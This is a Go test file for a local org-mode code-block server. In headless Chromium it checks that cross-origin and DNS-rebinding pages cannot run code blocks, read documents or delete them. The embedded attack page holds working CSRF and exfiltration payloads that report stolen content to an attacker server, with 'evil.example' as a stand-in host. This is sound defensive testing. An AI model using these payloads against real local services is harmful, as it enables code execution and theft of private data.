package main

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/wallyqs/borges/internal/outside"
)

// attackPage tries every way a page of another origin has to make the
// tokenless loopback Borges run a block or give a document away. BORGES is
// where it sends them ("" for its own origin: DNS rebinding); each attempt
// carries ?via=NAME so that the test can see that it reached Borges and was
// refused. What it could read, it reports to its own server.
const attackPage = `<!doctype html><html><body>
<iframe name="sink" id="sink"></iframe>
<form id="f" method="POST" enctype="text/plain" target="sink"><textarea name="a"></textarea></form>
<script>
const B = BORGES, DOC = DOCUMENT;
const report = (what, v) => fetch("/report?what=" + what, {method: "POST", body: String(v)}).catch(() => {});
const read = (via, path) => fetch(B + path + (path.includes("?") ? "&" : "?") + "via=" + via)
  .then(r => r.text().then(t => report(via, r.status + " " + t))).catch(e => report(via, "error " + e));
const attempts = [
  fetch(B + "/org?via=fetch-no-cors", {method: "POST", mode: "no-cors", body: DOC}),
  fetch(B + "/org?via=fetch-form", {method: "POST", mode: "no-cors", body: new URLSearchParams({a: DOC})}),
  fetch(B + "/org?via=fetch-multipart", {method: "POST", mode: "no-cors", body: (() => { const f = new FormData(); f.append("a", DOC); return f; })()}),
  new Promise(res => { const x = new XMLHttpRequest(); x.open("POST", B + "/org?via=xhr"); x.onloadend = res; x.send(DOC); }),
  Promise.resolve(navigator.sendBeacon(B + "/org?via=beacon", DOC)),
  fetch(B + "/org/" + TARGET + "?via=fetch-delete", {method: "DELETE"}),
  read("read-list", "/org"),
  read("read-doc", "/org/" + TARGET + ".org"),
  read("read-json", "/org/" + TARGET + ".json"),
  new Promise(res => {
    const f = document.getElementById("f");
    f.action = B + "/org?via=form";
    f.elements.a.value = DOC;
    document.getElementById("sink").onload = res;
    f.submit();
  }),
];
Promise.allSettled(attempts).then(() => { window.done = true; });
</script></body></html>`

// attacker is a web server of someone else's: it serves the attack page and
// records what the page reports. With proxy set it also stands for a DNS
// name rebound to 127.0.0.1: every other path reaches Borges, with the
// attacker's Host, as the browser would send it there.
type attacker struct {
	srv     *http.Server
	addr    string
	page    string
	mu      sync.Mutex
	reports map[string]string
}

func startAttacker(t *testing.T, borges, target, doc string, proxy *url.URL) *attacker {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	a := &attacker{addr: ln.Addr().String(), reports: map[string]string{}}
	quote := func(s string) string { return fmt.Sprintf("%q", s) }
	a.page = strings.NewReplacer("BORGES", quote(borges), "DOCUMENT", quote(doc), "TARGET", quote(target)).Replace(attackPage)
	var rp *httputil.ReverseProxy
	if proxy != nil {
		rp = &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
			r.SetURL(proxy)
			r.Out.Host = r.In.Host // the rebound name, as the browser sent it
		}}
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/attack", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, a.page)
	})
	mux.HandleFunc("/report", func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		a.mu.Lock()
		a.reports[r.URL.Query().Get("what")] = string(body)
		a.mu.Unlock()
	})
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if rp == nil {
			http.NotFound(w, r)
			return
		}
		rp.ServeHTTP(w, r)
	})
	a.srv = &http.Server{Handler: mux, ReadHeaderTimeout: 10 * time.Second}
	go a.srv.Serve(ln)
	t.Cleanup(func() { a.srv.Close() })
	return a
}

func (a *attacker) report() map[string]string {
	a.mu.Lock()
	defer a.mu.Unlock()
	out := map[string]string{}
	for k, v := range a.reports {
		out[k] = v
	}
	return out
}

// TestBrowserAttacks runs attack pages in headless Chromium against a
// tokenless Borges on loopback: a page of another local port, and a page
// whose name resolves to 127.0.0.1 (DNS rebinding, with
// --host-resolver-rules). No block runs and no document is read, though
// every attempt reaches Borges; Borges' own page keeps working.
func TestBrowserAttacks(t *testing.T) {
	t.Parallel()
	s := startServer(t, t.TempDir())
	secret := s.submit("#+TITLE: private notes\n\n#+name: keep\n#+begin_src sh\necho SECRET-7f3a9; sleep 600\n#+end_src\n")

	marker := filepath.Join(t.TempDir(), "pwned")
	doc := "#+name: pwn\n#+begin_src sh\ntouch " + marker + "\n#+end_src\n"
	borgesURL, _ := url.Parse("http://" + s.addr)
	crossPort := startAttacker(t, "http://"+s.addr, secret.ID, doc, nil)
	rebound := startAttacker(t, "", secret.ID, doc, borgesURL)
	_, reboundPort, _ := net.SplitHostPort(rebound.addr)

	ctx := outside.Browser(t, 90*time.Second, chromedp.Flag("host-resolver-rules", "MAP evil.example 127.0.0.1"))

	vias := []string{"fetch-no-cors", "fetch-form", "fetch-multipart", "xhr", "beacon", "fetch-delete", "read-list", "read-doc", "read-json", "form"}
	for _, page := range []struct {
		name, url string
		a         *attacker
		refusal   string
	}{
		{"another local port", "http://" + crossPort.addr + "/attack", crossPort, "cross-origin"},
		{"DNS rebinding", "http://evil.example:" + reboundPort + "/attack", rebound, "Host not served"},
	} {
		t.Run(page.name, func(t *testing.T) {
			err := chromedp.Do(ctx, chromedp.Navigate(page.url))
			if err == nil {
				_, err = chromedp.Run(ctx, chromedp.Poll[bool](`window.done === true`))
			}
			if err != nil {
				t.Fatalf("attack page: %v", err)
			}
			// Each attempt reached Borges and was refused.
			for _, via := range vias {
				until(t, via+" refused", func() bool {
					for _, line := range strings.Split(s.log.String(), "\n") {
						if strings.Contains(line, page.refusal) && strings.Contains(line, "via="+via) {
							return true
						}
					}
					return false
				})
			}
			for what, got := range page.a.report() {
				if strings.Contains(got, secret.ID) || strings.Contains(got, "SECRET-7f3a9") || strings.Contains(got, "private notes") {
					t.Errorf("the page read a document through %s: %q", what, got)
				}
			}
		})
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("a block of the attack page ran")
	}
	code, list := s.get("/org")
	if code != 200 || strings.Count(strings.TrimSpace(list), "\n") != 0 || !strings.Contains(list, secret.ID) {
		t.Fatalf("documents after the attacks (want only the user's): %d %q", code, list)
	}
	if v := s.doc(secret.ID); v.State == "killed" {
		t.Fatal("the attack's DELETE killed the user's document")
	}

	// Borges' own page, on its own origin, keeps working without a token.
	err := chromedp.Do(ctx, chromedp.Navigate("http://"+s.addr+"/"))
	if err == nil {
		_, err = chromedp.Run(ctx, chromedp.Poll[bool](`document.querySelectorAll("#doclist li").length === 1`))
	}
	if err != nil {
		t.Fatalf("Borges' page: %v", err)
	}
	if err := chromedp.Do(ctx, chromedp.Click(`#doclist li`), chromedp.WaitVisible(`#blocks tr`),
		chromedp.Evaluate[chromedp.Void](`document.getElementById("killdoc").click()`)); err != nil {
		t.Fatalf("Borges' page: %v", err)
	}
	until(t, "the page's own kill to take effect", func() bool { return s.doc(secret.ID).State != "running" && s.doc(secret.ID).State != "queued" })
}
